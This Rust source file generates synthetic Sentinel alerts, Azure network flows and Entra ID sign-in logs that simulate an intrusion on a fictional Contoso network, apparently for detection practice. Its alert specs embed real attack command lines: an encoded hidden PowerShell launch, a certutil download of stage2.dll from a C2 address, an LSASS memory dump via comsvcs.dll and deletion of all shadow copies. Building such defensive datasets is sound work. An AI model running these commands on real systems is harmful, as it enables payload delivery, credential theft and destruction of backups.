//! Sentinel alerts (with Entities JSON), Azure network flows and Entra ID sign-ins.

use chrono::{DateTime, Duration, Utc};
use rand::Rng;
use rand::rngs::StdRng;
use serde_json::json;

use super::table::{Table, f, i, s, t};
use super::windows::encoded_cradle;
use super::world::{self, LINUX, TENANT, Timeline, USERS, WINDOWS};
use crate::entities::{Entity, sentinel};

struct AlertSpec {
    name: &'static str,
    severity: &'static str,
    description: String,
    product: &'static str,
    alert_type: &'static str,
    start: DateTime<Utc>,
    minutes: i64,
    compromised: String,
    tactics: &'static str,
    techniques: &'static str,
    entities: Vec<serde_json::Value>,
    extended: serde_json::Value,
}

fn host(name: &str) -> serde_json::Value {
    json!({"Type": "host", "HostName": name, "DnsDomain": world::DNS_DOMAIN, "NTDomain": world::DOMAIN, "OSFamily": if name.contains("lx") { "Linux" } else { "Windows" }})
}

fn account(name: &str) -> serde_json::Value {
    let user = world::user(name);
    json!({"Type": "account", "Name": name, "NTDomain": world::DOMAIN, "UPNSuffix": "contoso.com", "Sid": world::sid(user.rid), "DisplayName": user.display})
}

fn process(
    pid: u32,
    cmd: &str,
    image: &str,
    parent: Option<serde_json::Value>,
    host_name: &str,
    user: &str,
) -> serde_json::Value {
    let (dir, name) = image.rsplit_once('\\').unwrap_or(("", image));
    let mut value = json!({
        "Type": "process", "ProcessId": pid.to_string(), "CommandLine": cmd,
        "ImageFile": {"Type": "file", "Directory": dir, "Name": name},
        "Host": host(host_name), "Account": account(user)
    });
    if let Some(parent) = parent {
        value["ParentProcess"] = parent;
    }
    value
}

fn specs(timeline: &Timeline) -> Vec<AlertSpec> {
    let ws = WINDOWS[0].name;
    let word = process(
        7212,
        r#""WINWORD.EXE" /n Invoice_0529.docm"#,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        None,
        ws,
        "alice.m",
    );
    let ps_cmd = format!("powershell.exe -nop -w hidden -enc {}", encoded_cradle());
    let ps = process(
        8840,
        &ps_cmd,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        Some(word.clone()),
        ws,
        "alice.m",
    );
    let certutil_cmd = format!(
        r"certutil.exe -urlcache -split -f http://{}/stage2.dll C:\Users\alice.m\AppData\Local\Temp\s2.dll",
        world::C2_IP
    );
    let certutil = process(
        9120,
        &certutil_cmd,
        r"C:\Windows\System32\certutil.exe",
        Some(ps.clone()),
        ws,
        "alice.m",
    );
    let dump = process(
        9876,
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\ProgramData\lsass.dmp full",
        r"C:\Windows\System32\rundll32.exe",
        None,
        ws,
        "alice.m",
    );
    let c2_ip = json!({"Type": "ip", "Address": world::C2_IP, "Location": {"CountryCode": "NL", "CountryOrRegionName": "Netherlands", "City": "Amsterdam", "Latitude": 52.37, "Longitude": 4.89}});
    let brute_ip = json!({"Type": "ip", "Address": world::BRUTE_FORCE_IP, "Location": {"CountryCode": "DE", "CountryOrRegionName": "Germany", "City": "Frankfurt am Main", "Latitude": 50.11, "Longitude": 8.68}});
    let ssh_ip = json!({"Type": "ip", "Address": world::SSH_ATTACKER_IP});
    let url = json!({"Type": "url", "Url": format!("http://{}/stage2.dll", world::C2_IP)});
    vec![
        AlertSpec {
            name: "Suspicious PowerShell command line",
            severity: "Medium",
            description: format!(
                "Office application WINWORD.EXE started PowerShell with an encoded command on {ws}."
            ),
            product: "Microsoft Defender for Endpoint",
            alert_type: "SuspiciousPowerShellCommandLine",
            start: timeline.phish + Duration::seconds(33),
            minutes: 2,
            compromised: format!("{ws}.{}", world::DNS_DOMAIN),
            tactics: "Execution",
            techniques: "T1059.001",
            entities: vec![host(ws), account("alice.m"), ps],
            extended: json!({"Encoded command": encoded_cradle(), "Parent image": "WINWORD.EXE"}),
        },
        AlertSpec {
            name: "Suspicious download using Certutil",
            severity: "Medium",
            description: format!("certutil.exe downloaded a file from {}.", world::C2_IP),
            product: "Microsoft Defender for Endpoint",
            alert_type: "CertutilDownload",
            start: timeline.phish + Duration::seconds(47),
            minutes: 1,
            compromised: format!("{ws}.{}", world::DNS_DOMAIN),
            tactics: "CommandAndControl, DefenseEvasion",
            techniques: "T1105, T1140",
            entities: vec![host(ws), certutil, url, c2_ip.clone()],
            extended: json!({"File": r"C:\Users\alice.m\AppData\Local\Temp\s2.dll"}),
        },
        AlertSpec {
            name: "Possible credential dumping via comsvcs.dll MiniDump",
            severity: "High",
            description:
                "rundll32.exe used comsvcs.dll MiniDump to write the memory of lsass.exe to disk."
                    .into(),
            product: "Microsoft Defender for Endpoint",
            alert_type: "LsassMemoryDump",
            start: timeline.phish + Duration::seconds(783),
            minutes: 1,
            compromised: format!("{ws}.{}", world::DNS_DOMAIN),
            tactics: "CredentialAccess",
            techniques: "T1003.001",
            entities: vec![
                host(ws),
                account("alice.m"),
                dump,
                json!({"Type": "file", "Directory": r"C:\ProgramData", "Name": "lsass.dmp"}),
            ],
            extended: json!({"Target process": "lsass.exe", "Target pid": "652"}),
        },
        AlertSpec {
            name: "Lateral movement using PsExec",
            severity: "High",
            description: format!(
                "PsExec started a service on SRV-FILE-01 from {ws} using adm-dave's credentials, then shadow copies were deleted."
            ),
            product: "Microsoft Sentinel",
            alert_type: "PsExecLateralMovement",
            start: timeline.phish + Duration::seconds(1795),
            minutes: 3,
            compromised: format!("SRV-FILE-01.{}", world::DNS_DOMAIN),
            tactics: "LateralMovement, Impact",
            techniques: "T1021.002, T1569.002, T1490",
            entities: vec![
                host("SRV-FILE-01"),
                host(ws),
                account("adm-dave"),
                json!({"Type": "ip", "Address": WINDOWS[0].ip}),
            ],
            extended: json!({"Service": "PSEXESVC", "Command": "vssadmin delete shadows /all /quiet"}),
        },
        AlertSpec {
            name: "RDP brute force followed by a successful logon",
            severity: "High",
            description: format!(
                "{} failed logons on SRV-JUMP-01 from {} were followed by a successful logon as bob.k.",
                320,
                world::BRUTE_FORCE_IP
            ),
            product: "Microsoft Sentinel",
            alert_type: "BruteForceSuccess",
            start: timeline.brute_force,
            minutes: 23,
            compromised: format!("SRV-JUMP-01.{}", world::DNS_DOMAIN),
            tactics: "CredentialAccess, InitialAccess",
            techniques: "T1110.001, T1133",
            entities: vec![host("SRV-JUMP-01"), account("bob.k"), brute_ip],
            extended: json!({"Failed attempts": "320", "Logon type": "10"}),
        },
        AlertSpec {
            name: "SSH brute force and successful logon",
            severity: "High",
            description: format!(
                "Many failed SSH passwords from {} on web-lx-01, then an accepted password for deploy.",
                world::SSH_ATTACKER_IP
            ),
            product: "Microsoft Sentinel",
            alert_type: "SshBruteForce",
            start: timeline.ssh_attack,
            minutes: 8,
            compromised: LINUX[0].name.to_string(),
            tactics: "CredentialAccess",
            techniques: "T1110",
            entities: vec![
                host(LINUX[0].name),
                json!({"Type": "account", "Name": "deploy"}),
                ssh_ip,
            ],
            extended: json!({"Failed attempts": "140"}),
        },
        AlertSpec {
            name: "Beaconing to a known malicious IP",
            severity: "Medium",
            description: format!(
                "{ws} connected to {} every five minutes over HTTPS.",
                world::C2_IP
            ),
            product: "Microsoft Sentinel",
            alert_type: "Beaconing",
            start: timeline.phish + Duration::hours(2),
            minutes: 60,
            compromised: format!("{ws}.{}", world::DNS_DOMAIN),
            tactics: "CommandAndControl",
            techniques: "T1071.001",
            entities: vec![
                host(ws),
                c2_ip.clone(),
                json!({"Type": "network-connection", "SourceAddress": {"Type": "ip", "Address": WINDOWS[0].ip}, "DestinationAddress": c2_ip, "DestinationPort": 443, "Protocol": "TCP"}),
            ],
            extended: json!({"Interval (s)": "300"}),
        },
    ]
}

/// SecurityAlert rows.
pub fn alerts(rng: &mut StdRng, timeline: &Timeline) -> Table {
    let mut table = Table::new(
        "security_alerts",
        &[
            "TenantId",
            "TimeGenerated",
            "DisplayName",
            "AlertName",
            "AlertSeverity",
            "Description",
            "ProviderName",
            "VendorName",
            "ProductName",
            "AlertType",
            "SystemAlertId",
            "CompromisedEntity",
            "Tactics",
            "Techniques",
            "StartTime",
            "EndTime",
            "Status",
            "Entities",
            "ExtendedProperties",
        ],
    );
    for spec in specs(timeline) {
        let entities: Vec<Entity> = spec.entities.into_iter().map(Entity::from_json).collect();
        let end = spec.start + Duration::minutes(spec.minutes);
        table.push(vec![
            ("TenantId", s(TENANT)),
            ("TimeGenerated", t(end + Duration::minutes(5))),
            ("DisplayName", s(spec.name)),
            ("AlertName", s(spec.name)),
            ("AlertSeverity", s(spec.severity)),
            ("Description", s(spec.description)),
            (
                "ProviderName",
                s(if spec.product.contains("Endpoint") {
                    "MDATP"
                } else {
                    "ASI Scheduled Alerts"
                }),
            ),
            ("VendorName", s("Microsoft")),
            ("ProductName", s(spec.product)),
            ("AlertType", s(spec.alert_type)),
            ("SystemAlertId", s(world::guid(rng))),
            ("CompromisedEntity", s(spec.compromised)),
            ("Tactics", s(spec.tactics)),
            ("Techniques", s(spec.techniques)),
            ("StartTime", t(spec.start)),
            ("EndTime", t(end)),
            ("Status", s("New")),
            ("Entities", s(sentinel::to_string(&entities))),
            ("ExtendedProperties", s(spec.extended.to_string())),
        ]);
    }
    table
}

const FLOW_COLUMNS: [&str; 27] = [
    "TenantId",
    "TimeGenerated",
    "FlowStartTime",
    "FlowEndTime",
    "FlowIntervalEndTime",
    "FlowType",
    "ResourceGroup",
    "VMName",
    "VMIPAddress",
    "PublicIPs",
    "SrcIP",
    "DestIP",
    "SrcPort",
    "DestPort",
    "L4Protocol",
    "L7Protocol",
    "FlowDirection",
    "AllowedOutFlows",
    "AllowedInFlows",
    "DeniedInFlows",
    "DeniedOutFlows",
    "BytesSent",
    "BytesReceived",
    "RemoteRegion",
    "VMRegion",
    "AllExtIPs",
    "TotalAllowedFlows",
];

struct Flow<'a> {
    start: DateTime<Utc>,
    vm: world::Machine,
    remote: &'a str,
    port: i64,
    l7: &'a str,
    outbound: bool,
    flows: i64,
    denied: i64,
    sent: i64,
    received: i64,
}

fn push_flow(table: &mut Table, rng: &mut StdRng, flow: &Flow) {
    let end = flow.start + Duration::seconds(rng.random_range(5..900));
    let (src, dst) = if flow.outbound {
        (flow.vm.ip, flow.remote)
    } else {
        (flow.remote, flow.vm.ip)
    };
    let allowed = flow.flows - flow.denied;
    table.push(vec![
        ("TenantId", s(TENANT)),
        ("TimeGenerated", t(end + Duration::minutes(10))),
        ("FlowStartTime", t(flow.start)),
        ("FlowEndTime", t(end)),
        ("FlowIntervalEndTime", t(flow.start + Duration::hours(1))),
        (
            "FlowType",
            s(if flow.remote.starts_with("10.") {
                "IntraVNet"
            } else {
                "ExternalPublic"
            }),
        ),
        ("ResourceGroup", s("contoso-prod-rg")),
        ("VMName", s(flow.vm.name.to_lowercase())),
        ("VMIPAddress", s(flow.vm.ip)),
        ("PublicIPs", s(format!("['{}']", flow.remote))),
        ("SrcIP", s(src)),
        ("DestIP", s(dst)),
        ("SrcPort", i(rng.random_range(49152..65535))),
        ("DestPort", i(flow.port)),
        ("L4Protocol", s(if flow.port == 53 { "U" } else { "T" })),
        ("L7Protocol", s(flow.l7)),
        ("FlowDirection", s(if flow.outbound { "O" } else { "I" })),
        (
            "AllowedOutFlows",
            i(if flow.outbound { allowed } else { 0 }),
        ),
        ("AllowedInFlows", i(if flow.outbound { 0 } else { allowed })),
        (
            "DeniedInFlows",
            i(if flow.outbound { 0 } else { flow.denied }),
        ),
        (
            "DeniedOutFlows",
            i(if flow.outbound { flow.denied } else { 0 }),
        ),
        ("BytesSent", i(flow.sent)),
        ("BytesReceived", i(flow.received)),
        (
            "RemoteRegion",
            s(if flow.remote.starts_with("10.") {
                ""
            } else {
                "global"
            }),
        ),
        ("VMRegion", s("westus2")),
        ("AllExtIPs", s(flow.remote)),
        ("TotalAllowedFlows", i(allowed)),
    ]);
}

/// Network flow rows (Azure NSG flow log style, with bytes).
pub fn flows(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> Table {
    let mut table = Table::new("network_flows", &FLOW_COLUMNS);
    let services = [
        ("13.107.42.14", 443, "https"),
        ("52.96.165.130", 443, "https"),
        ("142.250.72.110", 443, "https"),
        ("20.190.160.20", 443, "https"),
        ("10.10.2.5", 389, "ldap"),
        ("10.10.2.5", 53, "dns"),
        ("10.10.2.10", 445, "smb"),
        ("151.101.1.140", 80, "http"),
        ("23.46.212.71", 443, "https"),
    ];
    let machines: Vec<world::Machine> = WINDOWS.iter().chain(LINUX.iter()).copied().collect();
    for _ in 0..(620.0 * scale) as usize {
        let vm = *world::pick(rng, &machines);
        let (remote, port, l7) = *world::pick(rng, &services);
        let flows = rng.random_range(1..40);
        let flow = Flow {
            start: timeline.random(rng, 0.75),
            vm,
            remote,
            port,
            l7,
            outbound: true,
            flows,
            denied: 0,
            sent: flows * rng.random_range(600..20_000),
            received: flows * rng.random_range(2_000..400_000),
        };
        push_flow(&mut table, rng, &flow);
    }
    // Beacon: every five minutes from the phish until the end of data, small and regular.
    let mut when = timeline.phish + Duration::minutes(3);
    while when < timeline.end {
        let flow = Flow {
            start: when + world::jitter(rng, 8),
            vm: WINDOWS[0],
            remote: world::C2_IP,
            port: 443,
            l7: "https",
            outbound: true,
            flows: 1,
            denied: 0,
            sent: rng.random_range(900..1_300),
            received: rng.random_range(300..700),
        };
        push_flow(&mut table, rng, &flow);
        when += Duration::minutes(
            if (scale - 1.0).abs() < f64::EPSILON {
                5
            } else {
                (5.0 / scale.max(0.2)) as i64
            }
            .max(1),
        );
    }
    // Exfiltration: one large upload from the file server.
    let exfil = Flow {
        start: timeline.phish + Duration::hours(3),
        vm: WINDOWS[3],
        remote: world::C2_IP,
        port: 443,
        l7: "https",
        outbound: true,
        flows: 12,
        denied: 0,
        sent: 1_873_402_112,
        received: 2_310_554,
    };
    push_flow(&mut table, rng, &exfil);
    // RDP brute force: inbound flows to the jump server, a few denied.
    for n in 0..24 {
        let flow = Flow {
            start: timeline.brute_force + Duration::minutes(n),
            vm: WINDOWS[4],
            remote: world::BRUTE_FORCE_IP,
            port: 3389,
            l7: "rdp",
            outbound: false,
            flows: 14,
            denied: if n % 5 == 0 { 3 } else { 0 },
            sent: 40_000,
            received: 180_000,
        };
        push_flow(&mut table, rng, &flow);
    }
    table.sort_by("TimeGenerated");
    table
}

struct Place {
    city: &'static str,
    state: &'static str,
    country: &'static str,
    lat: f64,
    lon: f64,
    ip_prefix: &'static str,
}

const PLACES: [Place; 4] = [
    Place {
        city: "Seattle",
        state: "Washington",
        country: "US",
        lat: 47.61,
        lon: -122.33,
        ip_prefix: "73.53.12.",
    },
    Place {
        city: "Portland",
        state: "Oregon",
        country: "US",
        lat: 45.52,
        lon: -122.68,
        ip_prefix: "71.238.40.",
    },
    Place {
        city: "Vancouver",
        state: "British Columbia",
        country: "CA",
        lat: 49.28,
        lon: -123.12,
        ip_prefix: "24.86.170.",
    },
    Place {
        city: "Lagos",
        state: "Lagos",
        country: "NG",
        lat: 6.45,
        lon: 3.39,
        ip_prefix: "102.89.47.",
    },
];

struct SignIn<'a> {
    time: DateTime<Utc>,
    user: world::User,
    app: &'a str,
    ip: String,
    place: &'a Place,
    result: (i64, &'a str),
    agent: &'a str,
}

fn push_signin(table: &mut Table, rng: &mut StdRng, signin: &SignIn) {
    let upn = format!("{}@contoso.com", signin.user.name);
    let location = json!({"city": signin.place.city, "state": signin.place.state, "countryOrRegion": signin.place.country,
        "geoCoordinates": {"latitude": signin.place.lat, "longitude": signin.place.lon}});
    table.push(vec![
        ("TenantId", s(TENANT)),
        ("TimeGenerated", t(signin.time)),
        ("CreatedDateTime", t(signin.time)),
        ("UserPrincipalName", s(upn)),
        ("UserDisplayName", s(signin.user.display)),
        (
            "UserId",
            s(format!("00000000-0000-4000-8000-{:012}", signin.user.rid)),
        ),
        ("AppDisplayName", s(signin.app)),
        ("ClientAppUsed", s("Browser")),
        ("IPAddress", s(signin.ip.clone())),
        ("Location", s(signin.place.country)),
        ("City", s(signin.place.city)),
        ("State", s(signin.place.state)),
        ("Latitude", f(signin.place.lat)),
        ("Longitude", f(signin.place.lon)),
        ("LocationDetails", s(location.to_string())),
        ("ResultType", s(signin.result.0.to_string())),
        ("ResultDescription", s(signin.result.1)),
        ("UserAgent", s(signin.agent)),
        (
            "ConditionalAccessStatus",
            s(if signin.result.0 == 0 {
                "success"
            } else {
                "notApplied"
            }),
        ),
        (
            "RiskLevelDuringSignIn",
            s(if signin.place.country == "NG" {
                "high"
            } else {
                "none"
            }),
        ),
        ("CorrelationId", s(world::guid(rng))),
    ]);
}

const EDGE: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0";
const SPRAY_AGENT: &str = "python-requests/2.31.0";

/// Entra ID sign-in rows: daily sign-ins from home cities, a password spray from the
/// brute-force address, and alice.m signing in from Lagos 25 minutes after Seattle.
pub fn signins(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> Table {
    let mut table = Table::new(
        "signin_logs",
        &[
            "TenantId",
            "TimeGenerated",
            "CreatedDateTime",
            "UserPrincipalName",
            "UserDisplayName",
            "UserId",
            "AppDisplayName",
            "ClientAppUsed",
            "IPAddress",
            "Location",
            "City",
            "State",
            "Latitude",
            "Longitude",
            "LocationDetails",
            "ResultType",
            "ResultDescription",
            "UserAgent",
            "ConditionalAccessStatus",
            "RiskLevelDuringSignIn",
            "CorrelationId",
        ],
    );
    let apps = [
        "Office 365 Exchange Online",
        "Microsoft Teams",
        "SharePoint Online",
        "Azure Portal",
        "Microsoft 365 Copilot",
    ];
    for _ in 0..(420.0 * scale) as usize {
        let user = *world::pick(rng, &USERS);
        let place = PLACES
            .iter()
            .find(|p| p.city == user.city)
            .unwrap_or(&PLACES[0]);
        let ip = format!("{}{}", place.ip_prefix, 10 + user.rid % 200);
        let result = if world::coin(rng, 0.04) {
            (
                50126,
                "Invalid username or password or Invalid on-premise username or password.",
            )
        } else {
            (0, "")
        };
        let app = *world::pick(rng, &apps);
        let time = timeline.random(rng, 0.9);
        push_signin(
            &mut table,
            rng,
            &SignIn {
                time,
                user,
                app,
                ip,
                place,
                result,
                agent: EDGE,
            },
        );
    }
    let frankfurt = Place {
        city: "Frankfurt am Main",
        state: "Hesse",
        country: "DE",
        lat: 50.11,
        lon: 8.68,
        ip_prefix: "",
    };
    for (n, user) in USERS
        .iter()
        .cycle()
        .take((60.0 * scale.max(0.25)) as usize)
        .enumerate()
    {
        let time = timeline.brute_force + Duration::minutes(30) + Duration::seconds(n as i64 * 20);
        let result = if user.name == "adm-dave" {
            (
                50053,
                "Account is locked because user tried to sign in too many times with an incorrect user ID or password.",
            )
        } else {
            (
                50126,
                "Invalid username or password or Invalid on-premise username or password.",
            )
        };
        let signin = SignIn {
            time,
            user: *user,
            app: "Azure Active Directory PowerShell",
            ip: world::BRUTE_FORCE_IP.into(),
            place: &frankfurt,
            result,
            agent: SPRAY_AGENT,
        };
        push_signin(&mut table, rng, &signin);
    }
    let alice = world::user("alice.m");
    let seattle = &PLACES[0];
    let home = SignIn {
        time: timeline.phish - Duration::minutes(30),
        user: alice,
        app: "Office 365 Exchange Online",
        ip: format!("{}{}", seattle.ip_prefix, 10 + alice.rid % 200),
        place: seattle,
        result: (0, ""),
        agent: EDGE,
    };
    push_signin(&mut table, rng, &home);
    let away = SignIn {
        time: timeline.phish - Duration::minutes(5),
        user: alice,
        app: "Office 365 Exchange Online",
        ip: world::TRAVEL_IP.into(),
        place: &PLACES[3],
        result: (0, ""),
        agent: EDGE,
    };
    push_signin(&mut table, rng, &away);
    table.sort_by("TimeGenerated");
    table
}
